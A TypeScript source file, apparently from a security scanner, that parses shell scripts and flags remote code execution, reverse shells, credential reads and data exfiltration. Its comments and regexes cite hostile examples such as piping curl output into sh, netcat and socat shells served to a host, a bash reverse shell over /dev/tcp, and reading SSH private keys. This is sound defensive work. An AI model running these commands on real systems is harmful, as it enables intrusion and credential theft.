// What a shell script EXECUTES, from its syntax tree: fetched or decoded code handed to an interpreter
// (`curl … | sh`, `bash <(curl …)`, `eval "$(curl …)"`, `base64 -d | sh`, `bash <<< "$(curl …)"`, a
// downloaded file run), a shell given to a remote machine, and through hooks-shell-leaks.ts credentials and data
// that leave the machine. Text the script only carries (strings it prints, patterns it matches, comments,
// case patterns, heredocs fed to `cat`) runs nothing.
import { decoders, inlineCodeRisk, installsFrom, interpreters, readsProgramFromStdin } from './hooks-shell-code.ts';
import { credentialRead, shells, type Simple, type Verdict } from './hooks-commands.ts';
import {
  add,
  commandsIn,
  rce,
  readsSocket,
  simpleIn,
  untrusted,
  type Context,
  type LocatedRisk,
} from './hooks-shell-context.ts';
import { judgePipeline, judgeSend, judgeSharedWrite, taintCarried } from './hooks-shell-leaks.ts';
import { namesOf } from './hooks-indirection.ts';
import { lineRisks } from './hooks-lines.ts';
import { persistentAssignments, persistentPipeline, persistentWrites, persistence } from './hooks-shell-persist.ts';
import { classifyFunctions, normalPath, taint } from './hooks-shell-taint.ts';
import { childOf, isDynamic, nodesWhere, textOf, wordValue, type ShellNode, type ShellParser } from './hooks-syntax.ts';

export type { LocatedRisk } from './hooks-shell-context.ts';

const decodes = (ctx: Context, nodes: readonly ShellNode[]): boolean =>
  nodes.some((n) => commandsIn(ctx, n).some(decoders));

/** A pipeline's stages; one the grammar wrapped with a heredoc that follows it is opened up. */
const stagesOf = (node: ShellNode): ShellNode[] =>
  node.children
    .filter((child) => child.type !== 'comment')
    .flatMap((child) => {
      const body = child.type === 'redirected_statement' ? childOf(child, 'body') : undefined;
      return body?.type === 'pipeline' ? stagesOf(body) : [child];
    });

/** Does a pipeline stage run what it reads as code: a shell on stdin, `(bash)`, `tee >(sh)`, `while read l; do eval "$l"`? */
function consumes(ctx: Context, stage: ShellNode): boolean {
  const command =
    stage.type === 'command' ? stage : stage.type === 'redirected_statement' ? childOf(stage, 'body') : undefined;
  const simple = command?.type === 'command' ? simpleIn(ctx, command) : null;
  if (simple !== null && readsProgramFromStdin(simple, ctx.names)) return true;
  const outputs = nodesWhere(stage, (n) => n.type === 'process_substitution' && textOf(ctx.source, n).startsWith('>('));
  if (outputs.some((p) => commandsIn(ctx, p).some((s) => readsProgramFromStdin(s, ctx.names)))) return true;
  if (stage.type === 'command') return false;
  const inner = commandsIn(ctx, stage);
  if (inner.some((s) => s.node !== command && readsProgramFromStdin(s, ctx.names) && isBare(s))) return true;
  // Lines read into a variable that is then run.
  const read = new Set(
    inner.filter((s) => /^(?:read|mapfile|readarray)$/.test(s.name ?? '')).flatMap((s) => s.args.map((a) => a.value)),
  );
  const runsRead = (s: Simple) =>
    (s.name === null || s.name === 'eval' || ctx.names.evaluators.has(s.name) || shells.has(s.name)) &&
    nodesWhere(s.node, (n) => n.type === 'variable_name').some((n) => read.has(textOf(ctx.source, n)));
  return read.size > 0 && inner.some(runsRead);
}
/** A shell with no program of its own (`bash`, `sh -s`): inside a subshell, it reads the pipe. */
const isBare = (s: Simple): boolean => s.args.every((a) => a.value.startsWith('-'));

const sockets = /^(?:nc|ncat|netcat|socat|telnet|openssl)$/;

function checkPipeline(ctx: Context, node: ShellNode): void {
  const stages = stagesOf(node);
  judgePipeline(ctx, stages);
  persistentPipeline(ctx, stages, nested);
  for (let i = 1; i < stages.length; i++) {
    if (!consumes(ctx, stages[i]!)) continue;
    const upstream = stages.slice(0, i);
    if (upstream.some((s) => untrusted(ctx, s)))
      return rce(ctx, node, decodes(ctx, upstream) ? 'decodes and executes hidden code' : undefined);
    // `cat fifo | sh -i 2>&1 | nc host 4444 > fifo`: a shell whose input and output are a socket.
    if (stages.some((s, k) => k !== i && commandsIn(ctx, s).some((c) => sockets.test(c.name ?? ''))))
      return rce(ctx, node, 'gives a remote machine a shell');
  }
}

/** Is the path a file a fetch wrote, or inside a directory a fetched archive or repository landed in? */
const downloaded = (ctx: Context, path: string): boolean => {
  const file = normalPath(path);
  return (
    file !== '' &&
    file !== '-' &&
    (ctx.taintedFiles.has(file) ||
      [...ctx.taintedDirs].some((dir) =>
        dir === '.' ? !file.startsWith('/') && !file.startsWith('$') : file.startsWith(`${dir}/`),
      ))
  );
};

/** `eval`, `sh -c`, `python -c`, `source`/`.` and interpreters given fetched code; a downloaded file run. */
function checkInterpreter(ctx: Context, simple: Simple): void {
  const { name, args, node } = simple;
  const nameNode = childOf(node, 'name');
  if (name === null) {
    if (nameNode && downloaded(ctx, wordValue(ctx.source, nameNode))) return rce(ctx, node, 'runs a downloaded file');
    // `x=$(curl …); $x`: the fetched text run as a command.
    if (
      nameNode &&
      nodesWhere(nameNode, (n) => n.type === 'variable_name').some((n) =>
        ctx.taintedVariables.has(textOf(ctx.source, n)),
      )
    )
      rce(ctx, node, 'runs fetched text as a command');
    return;
  }
  if (nameNode && /\//.test(wordValue(ctx.source, nameNode)) && downloaded(ctx, wordValue(ctx.source, nameNode)))
    return rce(ctx, node, 'runs a downloaded file');
  // The word after `-c`/`-e` of a shell or interpreter is code, as every argument of `eval` is.
  const flag = args.findIndex((a) => (shells.has(name) ? /^-\w*c$/ : /^-(?:c|e|E|r|-eval)$/).test(a.value));
  const codeArg = flag !== -1 && (shells.has(name) || interpreters.test(name)) ? args[flag + 1] : undefined;
  const evaluates = name === 'eval' || ctx.names.evaluators.has(name);
  const codeTaking = evaluates || name === 'source' || name === '.' || shells.has(name) || interpreters.test(name);
  if (!codeTaking) return;
  // `python -m py_compile f`: the module runs; the words after it are its arguments.
  const module = interpreters.test(name) ? args.findIndex((a) => a.value === '-m') : -1;
  for (const [k, arg] of args.entries()) {
    const substituted = nodesWhere(
      arg.node,
      (n) => n.type === 'command_substitution' || n.type === 'process_substitution',
    );
    if (substituted.some((s) => untrusted(ctx, s)) || ((evaluates || arg === codeArg) && untrusted(ctx, arg.node)))
      return rce(ctx, node, decodes(ctx, substituted) ? 'decodes and executes hidden code' : undefined);
    if ((module === -1 || k < module) && !arg.value.startsWith('-') && arg !== codeArg && downloaded(ctx, arg.value))
      return rce(ctx, node, 'runs a downloaded file');
  }
  if (codeArg && !shells.has(name) && !isDynamic(codeArg.node)) inlineCode(ctx, codeArg.value, node);
  // The code `eval` and `sh -c` run is shell too: read it as such.
  const inline = name === 'eval' ? args : shells.has(name) && codeArg ? [codeArg] : [];
  const code = inline
    .filter((a) => !isDynamic(a.node))
    .map((a) => a.value)
    .join(' ');
  if (code.trim() !== '' && ctx.depth < 3) nested(ctx, code, { line: node.line + ctx.offset });
}

/** Code given to `python -c`, `node -e`, or in a heredoc to them: the patterns, line by line, and what it runs. */
function inlineCode(ctx: Context, code: string, node: ShellNode): void {
  for (const line of code.split('\n')) for (const risk of lineRisks(line)) add(ctx, risk.id, risk.what, node);
  const runs = inlineCodeRisk(code);
  if (runs) rce(ctx, node, runs === 'decode' ? 'decodes and executes hidden code' : undefined);
}

/** Risks of shell code held in a string of the script (`sh -c '…'`, `eval '…'`, a heredoc fed to bash). */
function nested(ctx: Context, code: string, at: Readonly<{ line: number } | { offset: number }>): void {
  const place = 'line' in at ? { at: ctx.at ?? at.line } : { offset: ctx.offset + at.offset };
  const inner: Context = { ...ctx, ...place, source: code, depth: ctx.depth + 1, risks: new Map() };
  walk(inner, ctx.parse(code));
  for (const risk of inner.risks.values()) {
    const key = `${risk.id}:${risk.line}`;
    const before = ctx.risks.get(key);
    if (before === undefined || (before.severity === 'MEDIUM' && risk.severity !== 'MEDIUM')) ctx.risks.set(key, risk);
  }
}

function checkCommand(ctx: Context, node: ShellNode): void {
  const simple = simpleIn(ctx, node);
  if (simple === null) return;
  // `bash${IFS}-c${IFS}"…"`: bash splits on IFS, so read the command with spaces there.
  const text = textOf(ctx.source, node);
  if (/\$\{?IFS\}?/.test(text) && ctx.depth < 3)
    nested(ctx, text.replace(/\$\{IFS\}|\$IFS(?!\w)/g, ' '), { line: node.line + ctx.offset });
  checkInterpreter(ctx, simple);
  // `bash <<< "$(curl …)"`: a here-string is the program of a shell that reads its stdin.
  const herestrings = node.children.filter((c) => c.type === 'herestring_redirect');
  if (herestrings.some((h) => untrusted(ctx, h)) && readsProgramFromStdin(simple, ctx.names))
    rce(ctx, node, decodes(ctx, herestrings) ? 'decodes and executes hidden code' : undefined);
  const source = installsFrom(simple);
  if (source) rce(ctx, node, `installs and runs a package from ${source}`);
  // `nc host 4444 -e /bin/sh`, `socat exec:bash tcp:host:4444`: a shell served to the network.
  if (
    /^(?:nc|ncat|netcat)$/.test(simple.name ?? '') &&
    simple.args.some((a) => /^(?:-e|-c|--exec|--sh-exec)$/.test(a.value))
  )
    rce(ctx, node, 'gives a remote machine a shell');
  if (
    simple.name === 'socat' &&
    simple.args.some((a) => /^(?:exec|system):/i.test(a.value)) &&
    simple.args.some((a) => /^(?:tcp|ssl|openssl)/i.test(a.value))
  )
    rce(ctx, node, 'gives a remote machine a shell');
  credentialAccess(ctx, credentialRead(ctx.source, simple, ctx.names.constants), node);
  judgeSend(ctx, simple);
  persistence(ctx, simple, nested);
}

function checkRedirect(ctx: Context, node: ShellNode): void {
  const destination = childOf(node, 'destination');
  if (destination === undefined) return;
  const value = wordValue(ctx.source, destination);
  const socket = /^\/dev\/(?:tcp|udp)\/([^/]+)\//.exec(value);
  if (socket && !/^(?:localhost|127(?:\.\d+){3})$/.test(socket[1]!))
    add(ctx, 'hooks-data-exfiltration', 'sends data through a raw socket', node);
  // Read from (`< ~/.ssh/id_rsa`) or written to (`>> ~/.ssh/authorized_keys`): the file is the argument.
  credentialAccess(ctx, credentialRead(ctx.source, { node, name: 'cat', args: [{ node: destination, value }] }), node);
}

/** A credential read as a risk: one of this machine's (the environment, a project's `.env`) is the quieter. */
function credentialAccess(ctx: Context, read: Verdict | null, node: ShellNode): void {
  if (read)
    add(
      ctx,
      read.id,
      read.kind === 'ambient' ? `${read.what} (on this machine)` : read.what,
      node,
      read.kind === 'ambient' ? 'MEDIUM' : 'HIGH',
    );
}

/** A heredoc given to a shell is its script, one given to an interpreter its program; one given to `cat` is a message. */
function checkHeredoc(ctx: Context, node: ShellNode): void {
  const body = childOf(node, 'body');
  const simple = body?.type === 'command' ? simpleIn(ctx, body) : null;
  if (simple === null || simple.name === null || !readsProgramFromStdin(simple, ctx.names)) return;
  for (const heredoc of nodesWhere(node, (n) => n.type === 'heredoc_body')) {
    const code = textOf(ctx.source, heredoc);
    if (!shells.has(simple.name)) inlineCode(ctx, code, node);
    else if (ctx.depth < 3) nested(ctx, code, { offset: heredoc.line - 1 });
  }
}

/** `bash < <(curl …)`, `bash <<< "$(curl …)"`, `bash <&3` on a socket, `sh < downloaded`, `curl … > >(bash)`. */
function checkStdinRedirect(ctx: Context, node: ShellNode): void {
  const body = childOf(node, 'body');
  const simple = body?.type === 'command' ? simpleIn(ctx, body) : null;
  if (simple === null) return;
  const redirects = node.children.filter((c) => c.field === 'redirect');
  if (readsProgramFromStdin(simple, ctx.names)) {
    for (const redirect of redirects) {
      const text = textOf(ctx.source, redirect);
      const destination = childOf(redirect, 'destination');
      if (redirect.type === 'herestring_redirect' && untrusted(ctx, redirect))
        return rce(ctx, node, decodes(ctx, [redirect]) ? 'decodes and executes hidden code' : undefined);
      if (redirect.type !== 'file_redirect' || destination === undefined || !/^\s*0?<(?!<)/.test(text)) continue;
      if (readsSocket(ctx, redirect)) return rce(ctx, node, 'runs code read from a raw socket');
      if (untrusted(ctx, destination) || downloaded(ctx, wordValue(ctx.source, destination))) return rce(ctx, node);
    }
  }
  // Output into a process that runs it.
  const into = redirects.filter((r) =>
    nodesWhere(r, (n) => n.type === 'process_substitution').some((p) => consumes(ctx, p)),
  );
  if (into.length > 0 && body && untrusted(ctx, body)) rce(ctx, node);
  // A shell whose input or output is a socket: `bash -i >& /dev/tcp/host/4444 0>&1`.
  if (
    simple.name !== null &&
    shells.has(simple.name) &&
    redirects.some((r) => /\/dev\/(?:tcp|udp)\//.test(textOf(ctx.source, r)))
  )
    rce(ctx, node, 'gives a remote machine a shell');
}

/** Statements the parser could still read inside a part it could not. */
const statements = new Set([
  ...['command', 'declaration_command', 'variable_assignment', 'pipeline', 'list', 'redirected_statement'],
  ...['if_statement', 'while_statement', 'for_statement', 'c_style_for_statement', 'case_statement'],
  ...['function_definition', 'subshell', 'compound_statement', 'negated_command', 'test_command'],
]);

/**
 * The parser could not read this part: the statements it still read inside it are walked as usual; of
 * the rest, each line that parses alone is read as shell, and the others are checked with the patterns,
 * as for a script in another language, without the quoted text of a `case` pattern (`*"curl | sh"*)`),
 * which is what a guard matches, not what it runs.
 */
function checkUnreadable(ctx: Context, node: ShellNode): void {
  const read = node.children.filter((child) => statements.has(child.type));
  for (const statement of read) walk(ctx, statement);
  // The text no statement covers, line breaks kept so that lines keep their numbers.
  let rest = textOf(ctx.source, node);
  for (const statement of read) {
    const from = statement.start - node.start;
    const to = statement.end - node.start;
    rest = rest.slice(0, from) + rest.slice(from, to).replace(/[^\n]/g, ' ') + rest.slice(to);
  }
  rest.split('\n').forEach((text, i) => {
    if (/^\s*#/.test(text) || text.trim() === '') return;
    const line = node.line + i + ctx.offset;
    if (ctx.depth < 3 && !hasError(ctx.parse(text))) return nested(ctx, text, { line });
    const checked = /^\s*[*"'(][^\n]*\)\s/.test(text) ? text.replace(/"[^"]*"|'[^']*'/g, '""') : text;
    for (const risk of lineRisks(checked)) add(ctx, risk.id, risk.what, { ...node, line: node.line + i });
  });
}

const hasError = (node: ShellNode): boolean => node.type === 'ERROR' || node.children.some((child) => hasError(child));

/** The checks of a node by its type, in order, before its children are walked. */
const checks: ReadonlyMap<string, readonly ((ctx: Context, node: ShellNode) => void)[]> = new Map([
  ['pipeline', [checkPipeline]],
  ['command', [checkCommand]],
  ['file_redirect', [checkRedirect]],
  [
    'redirected_statement',
    [
      checkHeredoc,
      checkStdinRedirect,
      judgeSharedWrite,
      (ctx: Context, node: ShellNode) => persistentWrites(ctx, node, nested),
    ],
  ],
]);

function walk(ctx: Context, node: ShellNode): void {
  switch (node.type) {
    case 'ERROR':
      return checkUnreadable(ctx, node);
    case 'comment':
      return;
    case 'case_item':
      // The patterns are text; the commands of the branch run.
      for (const child of node.children) if (child.field !== 'value') walk(ctx, child);
      return;
  }
  for (const check of checks.get(node.type) ?? []) check(ctx, node);
  for (const child of node.children) walk(ctx, child);
}

/** The risks of a shell script (or one hook command line), each at its line; at most one per rule and line. */
export function scriptRisks(source: string, parse: ShellParser, root: ShellNode = parse(source)): LocatedRisk[] {
  const ctx: Context = {
    source,
    parse,
    depth: 0,
    at: null,
    offset: 0,
    taintedVariables: new Set(),
    taintedFiles: new Set(),
    taintedDirs: new Set(),
    remoteFds: new Set(),
    carriedBy: new Map(),
    carriedFiles: new Map(),
    stdin: new WeakMap(),
    names: namesOf(source, root),
    risks: new Map(),
  };
  classifyFunctions(ctx, root);
  taint(ctx, root);
  taintCarried(ctx, root);
  walk(ctx, root);
  persistentAssignments(ctx, root, nested);
  const risks = [...ctx.risks.values()];
  // A fetch whose content runs or that sends data out is reported as that, not also as a fetch.
  const louder = new Set(risks.filter((r) => r.severity !== 'MEDIUM').map((r) => r.line));
  return risks
    .filter((r) => r.id !== 'hooks-remote-fetch' || !louder.has(r.line))
    .sort((a, b) => a.line - b.line || order(a.id) - order(b.id));
}

const rules = [
  'hooks-remote-code-execution',
  'hooks-credential-access',
  'hooks-data-exfiltration',
  'hooks-remote-fetch',
];
const order = (id: string): number => rules.indexOf(id);
